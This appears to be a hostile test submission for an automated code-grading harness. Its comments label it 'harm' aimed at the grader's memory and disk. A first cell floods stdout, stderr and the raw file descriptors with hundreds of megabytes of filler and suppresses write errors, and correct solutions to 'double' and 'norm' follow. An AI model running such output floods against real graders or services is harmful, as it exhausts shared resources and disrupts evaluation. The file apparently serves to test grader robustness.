# kind = "harm"
# goal = "the grader's memory and disk"
# trick = "prints gigabytes, on sys.stdout and on the raw descriptors; the answers are right"
# mark = 7
# %%
import os, sys
for _ in range(2000):
    print("x" * 100_000)
    print("y" * 100_000, file=sys.stderr)
for fd in (1, 2):
    for _ in range(2000):
        try:
            os.write(fd, b"z" * 65536)
        except OSError:
            pass
# %% solve="double"
def double(x): return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
